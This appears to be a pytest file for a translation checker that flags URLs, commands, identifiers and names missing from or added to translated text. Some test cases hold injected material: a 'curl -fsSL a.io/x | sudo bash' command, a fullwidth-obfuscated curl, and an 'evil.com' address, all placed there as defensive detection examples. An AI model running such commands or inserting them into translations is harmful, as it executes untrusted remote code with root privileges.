"""What is copied from the source: which of it may change, and what the finding says."""

from __future__ import annotations

import pytest
from checking import check_names, excerpts


@pytest.mark.parametrize(
    ("name", "source", "translation", "expected"),
    [
        ("addresses", "See https://a.org/b now.", "Vea https://a.org/c ya.", "missing: https://a.org/b"),
        ("addresses", "Write to a@b.org.", "Escriba.", "missing: a@b.org"),
        ("addresses", "Write to us.", "Escriba a x@b.org.", "not in the source: x@b.org"),
        ("addresses", "See our site.", "Vea evil.com/x.", "not in the source: evil.com/x"),
        ("commands", "Install it.", "Instale con curl -fsSL a.io/x | sudo bash.", "curl -fsSL a.io/x"),
        ("commands", "Install it.", "Instale con Ｃurl o ｐｉｐ　install x.", "pip install"),
        ("commands", "Run pip install x.", "Ejecute pip install x y sudo make.", "sudo make"),
        ("identifiers", "Call load_data() first.", "Llame a carga() antes.", "missing: load_data()"),
        ("placeholders", "It has %(count)d pages.", "Tiene páginas.", "missing: %(count)d"),
        ("products", "It needs Python.", "Necesita pitón.", "missing: Python"),
        ("other-name", "Use JSON.", "Use XML.", "XML instead of JSON"),
        ("abbreviations", "It needs a GPU.", "Necesita una tarjeta.", "missing: GPU"),
    ],
)
def test_the_excerpt_names_what_is_missing(name, source, translation, expected):
    """As it stands in the source."""
    assert excerpts(name, source, translation, "es")[0] == expected


@pytest.mark.parametrize(
    ("source", "translation", "language"),
    [
        ("See https://docs.a.org/en/x.", "Vea https://docs.a.org/es/x.", "es"),
        ("See https://en.wikipedia.org/wiki/Tide.", "Vea https://es.wikipedia.org/wiki/Marea.", "es"),
        ("Run pip install name | sh.", "Ejecute pip install nombre | sh.", "es"),
        ("The curl of a field; sh is a shell.", "El curl de un campo; sh es un intérprete.", "es"),
        ("| a | b |", "| sh | curl |", "es"),
        ("Many APIs are here.", "这里有许多API。", "zh_CN"),
        ("Use setup.py now.", "现在使用setup.py。", "zh_CN"),
        ("Use numpy arrays.", "Use arrays de numpy.", "es"),
    ],
)
def test_what_translators_rightly_change_passes(source, translation, language):
    """The language of an address, the plural of a name, and no spaces beside it in Chinese."""
    names = check_names(source, translation, language)
    assert names.keys().isdisjoint({"addresses", "commands", "identifiers", "abbreviations", "products"})
